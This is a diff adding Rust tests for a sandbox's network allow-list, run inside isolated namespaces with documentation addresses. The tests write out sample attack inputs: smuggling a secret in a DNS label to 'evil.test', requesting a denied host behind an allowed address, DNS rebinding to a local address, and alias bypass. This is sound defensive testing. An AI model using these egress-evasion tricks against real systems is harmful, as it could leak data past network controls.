@@ -1,0 +1,89 @@
+//! What leaves a sandbox with a network of its own: attacks on names and addresses, each with its control.
+//!
+//! The hosts are network namespaces with documentation addresses, made by `bed.sh` inside a user namespace;
+//! nothing is sent to any other address.
+
+use crate::support::{Ended, Host, World};
+
+/// Runs `flags`' sandbox, or with none the same without a sandbox, on the bed. Gives what the payload printed
+/// and what the name server was asked.
+fn tries(flags: Option<&str>, what: &str) -> (String, String) {
+    let world = World::new();
+    // The name server writes down what it is asked.
+    world.host(Host::MayChange);
+    let folder = world.folder("project").join("scripts");
+    std::fs::create_dir(&folder).unwrap();
+    for (name, text) in [
+        ("bed.sh", include_str!("bed.sh")),
+        ("peer.py", include_str!("peer.py")),
+        ("payload.py", include_str!("payload.py")),
+    ] {
+        std::fs::write(folder.join(name), text).unwrap();
+    }
+    let scripts = folder.to_str().unwrap();
+    let asked = world.folder("asked").join("names");
+    let bryo = std::env::var("BRYO_BIN").unwrap_or_else(|_| env!("CARGO_BIN_EXE_bryo").to_owned());
+    let sandbox = flags.map(|flags| format!("{bryo} run -q --rm --dns 198.51.100.53 {flags} -- "));
+    let run = format!("{}python3 {scripts}/payload.py '{what}'", sandbox.unwrap_or_default());
+    let words = ["-U", "--map-current-user", "--keep-caps", "-n", "sh"].map(str::to_owned);
+    let bed = [format!("{scripts}/bed.sh"), scripts.to_owned(), asked.display().to_string()];
+    let all = words.into_iter().chain(bed).chain(["sh".to_owned(), "-c".to_owned(), run]);
+    let ended: Ended = world.program("/usr/bin/unshare", all).in_folder(world.project()).ends();
+    let asked = std::fs::read_to_string(&asked).unwrap_or_default();
+    (ended.stdout(), asked)
+}
+
+fn inside(flags: &str, what: &str) -> String {
+    tries(Some(flags), what).0
+}
+
+#[test]
+fn only_a_named_host_is_reached() {
+    let what = "get 198.51.100.8 80 evil.test + look evil.test + look good.test + get good.test 80 good.test";
+    let control = inside("--network user", what);
+    assert_eq!(control, "served evil.test\n198.51.100.8\n198.51.100.7\nserved good.test\n");
+    let tried = inside("--allow good.test", what);
+    assert_eq!(tried, "refused\nrefused\n198.51.100.7\nserved good.test\n");
+}
+
+#[test]
+fn a_name_that_is_not_allowed_never_leaves() {
+    let what = "look s3cr3t-in-a-label.evil.test + look good.test";
+    let (_, control) = tries(Some("--network user"), what);
+    assert!(control.contains("s3cr3t"), "{control}");
+    let (_, asked) = tries(Some("--allow good.test"), what);
+    assert_eq!(asked, "good.test\n");
+}
+
+#[test]
+fn a_request_for_another_host_is_refused_also_behind_a_good_one() {
+    let what = "get 198.51.100.7 80 evil.test + get 198.51.100.7 80 good.test evil.test";
+    let (control, _) = tries(None, what);
+    assert_eq!(control, "served evil.test\nserved good.test,served evil.test\n");
+    // The address is the name's once it was looked up.
+    let looked = format!("look good.test + {what} + get 198.51.100.7 80 good.test");
+    let tried = inside("--allow good.test", &looked);
+    assert_eq!(tried, "198.51.100.7\nrefused\nrefused\nserved good.test\n");
+    let relaxed = inside("--allow good.test --allow-any-sni", &format!("look good.test + {what}"));
+    assert_eq!(relaxed, format!("198.51.100.7\n{control}"));
+}
+
+#[test]
+fn a_name_that_leads_to_this_host_leads_nowhere() {
+    let what = "look rebind.test + look inward.test + get 192.0.2.1 80 inward.test";
+    let (control, _) = tries(None, "get 192.0.2.1 80 inward.test");
+    assert_eq!(control, "served inward.test\n");
+    for flags in ["--allow rebind.test --allow inward.test", "--network user"] {
+        assert_eq!(inside(flags, what), "198.51.100.7\nrefused\nrefused\n", "{flags}");
+    }
+    let named = inside("--allow inward.test --allow 192.0.2.1", "get inward.test 80 inward.test");
+    assert_eq!(named, control);
+}
+
+#[test]
+fn an_alias_of_a_denied_name_is_none() {
+    let what = "get alias.good.test 80 alias.good.test";
+    let control = inside("--allow *.good.test", what);
+    assert_eq!(control, "served alias.good.test\n");
+    assert_eq!(inside("--allow *.good.test --deny evil.test", what), "refused\n");
+}
